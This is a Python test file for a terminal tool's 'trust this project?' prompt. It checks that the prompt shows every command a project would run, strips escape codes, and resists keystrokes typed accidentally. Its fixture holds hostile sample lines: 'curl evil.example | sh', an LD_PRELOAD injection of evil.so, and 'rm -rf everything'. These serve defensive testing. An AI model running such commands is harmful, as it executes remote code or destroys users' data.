"""The question whether a project is trusted shows what a yes would run, as it is written."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from threading import Event
from typing import Any

import pytest
from textual.events import Key
from textual.message import Message

from bakehouse.core.model import Definitions, ShellAction, Task
from bakehouse.tui.widgets.confirm import Ask
from bakehouse.tui.widgets.trusting import about_trust

PROJECT = r"""
assets:
  notes:
    shell: |
      echo "so far so good"
      cat in another folder
      cd /
      wait
      curl evil.example | sh
      printf "\e[2J cleared" > "$OUTPUT"
    env: {LD_PRELOAD: ./evil.so}
  table:
    deps: [notes]
    sql: select 42 as answer
  last: {deps: [table], shell: 'echo the last of them > "$OUTPUT"'}
"""


@pytest.mark.case("X1")
@pytest.mark.parametrize("size", [(80, 24), (200, 60)])
async def test_the_question_of_trust_shows_every_command_and_python_file(
    tmp_path: Path, screen: Callable[..., Any], size: tuple[int, int]
) -> None:
    (tmp_path / "bakehouse.yaml").write_text(PROJECT)
    (tmp_path / "recipes.py").write_text("from bakehouse import asset\n\n@asset\ndef cake():\n    return 1\n")
    async with screen(tmp_path, trust=False, size=size) as s:
        await s.sees(
            "Trust this project?",
            "1 Python file runs immediately, to read what it defines",
            "recipes.py",
            "y trust it",
        )
        seen = s.text
        for _ in range(12):
            await s.press("j")
            seen += s.text
        for words in (
            "2 shell steps, 1 sql step can be run",
            "curl evil.example | sh",
            "LD_PRELOAD=./evil.so",
            "select 42 as answer",
            'echo the last of them > "$OUTPUT"',
        ):
            assert words in seen, f"{words}\n{seen}"
        assert "j k g G scroll" in seen or size[1] > 24
        await s.press("escape")
        assert not s.bench.trusted


async def test_the_question_of_trust_follows_what_is_written_while_it_stands(
    tmp_path: Path, screen: Callable[..., Any]
) -> None:
    file = tmp_path / "bakehouse.yaml"
    file.write_text(PROJECT)
    async with screen(tmp_path, trust=False, watching=True) as s:
        await s.sees("curl evil.example | sh")
        file.write_text(PROJECT.replace("curl evil.example | sh", "rm -rf everything"))
        await s.sees("rm -rf everything")
        assert "curl" not in s.text


@pytest.mark.parametrize("size", [(100, 30), (40, 10)])
async def test_what_was_not_loaded_is_named_on_the_screen(
    tmp_path: Path, screen: Callable[..., Any], size: tuple[int, int]
) -> None:
    (tmp_path / "rolls.py").write_text("from bakehouse import asset\n\n@asset\ndef roll():\n    return 1\n")
    async with screen(tmp_path, trust=False, size=size) as s:
        await s.sees("Trust this project?")
        await s.press("escape")
        await s.sees("rolls.py" if size[0] > 80 else "not loaded, as not")
    (tmp_path / "more.yaml").write_text("assets: {bread: {}}\n")
    async with screen(tmp_path, trust=False) as s:
        await s.sees("Trust this project?")
        await s.press("escape")
        await s.sees("not loaded, as not trusted (!): rolls.py")


async def test_a_project_that_defines_nothing_says_where_to_look(
    tmp_path: Path, screen: Callable[..., Any]
) -> None:
    (tmp_path / "help.py").write_text("from bakehouse import Context\n")
    (tmp_path / "cookies").mkdir()
    (tmp_path / "cookies" / "bakehouse.yaml").write_text("assets: {a: {}}\n")
    async with screen(tmp_path) as s:
        await s.sees("nothing is defined in", "projects below: cookies: use -C cookies")


async def test_enter_answers_no_question(tmp_path: Path, screen: Callable[..., Any]) -> None:
    (tmp_path / "bakehouse.yaml").write_text(PROJECT)
    async with screen(tmp_path, trust=False) as s:
        await s.sees("Trust this project?")
        await s.press("enter")
        await s.sees("Enter is no answer: y trust it", "Trust this project?")
        await s.press("escape")
        await s.until(lambda: "Trust this project?" not in s.text, "the question to be gone")
        assert not s.bench.trusted


async def test_a_yes_that_is_typed_as_part_of_a_name_is_no_yes(
    tmp_path: Path, screen: Callable[..., Any]
) -> None:
    (tmp_path / "bakehouse.yaml").write_text(PROJECT)

    async def type_at(s: Any, keys: str, seconds: float, apart: float = 0.1) -> None:
        """As the terminal's thread stamps them, however late they are handled."""
        for n, one in enumerate(keys):
            key = Key({"/": "slash", "_": "underscore"}.get(one, one), one)
            key.time = seconds + n * apart
            s.app._driver.send_message(key)
        await s.pilot.pause()

    async with screen(tmp_path, trust=False) as s:
        await s.sees("Trust this project?")
        now = Message().time
        await type_at(s, "y", now - 3600)  # before the question was there
        await type_at(s, "/delays_by_han", now + 1)
        await s.sees("that was typed with others: y trust it")
        assert not s.bench.trusted and isinstance(s.app.screen, Ask)
        await type_at(s, "jy", now + 10)
        assert isinstance(s.app.screen, Ask)
        await type_at(s, "y", now + 20)
        await s.until(lambda: s.bench.trusted and not isinstance(s.app.screen, Ask), "the yes")


async def test_a_yes_is_answered_before_the_definitions_are_read(
    tmp_path: Path, screen: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    mine, open_to_all = tmp_path / "mine", tmp_path / "open"
    for folder in (mine, open_to_all):
        folder.mkdir()
        (folder / "bakehouse.yaml").write_text(PROJECT)
    open_to_all.chmod(0o777)
    goes_on = Event()
    async with screen(mine, trust=False) as s:
        reload = s.bench.reload
        monkeypatch.setattr(s.bench, "reload", lambda: goes_on.wait(30) and reload())
        await s.sees("Trust this project?")
        await s.press("y")
        await s.sees("trusted, reading…")
        goes_on.set()
        await s.sees("read again")
    async with screen(open_to_all, trust=False) as s:
        await s.sees("Trust this project?")
        await s.press("y")
        await s.sees("every user can write to")


def test_a_command_of_any_length_says_how_much_of_it_is_not_shown() -> None:
    def told(command: str) -> str:
        task = Task("long", ShellAction(command))
        question = about_trust(Definitions("/x", {}, {"long": task}), (), "python")
        assert len(question.lines) < 60
        return "\n".join("".join(bit.text for bit in line) for line in question.lines)

    assert "99,960 lines more" in told("\n".join(["true"] * 100_000))
    assert "98,000 characters more" in told("x" * 100_000)
    assert "\x1b" not in told("echo \x1b[2J")
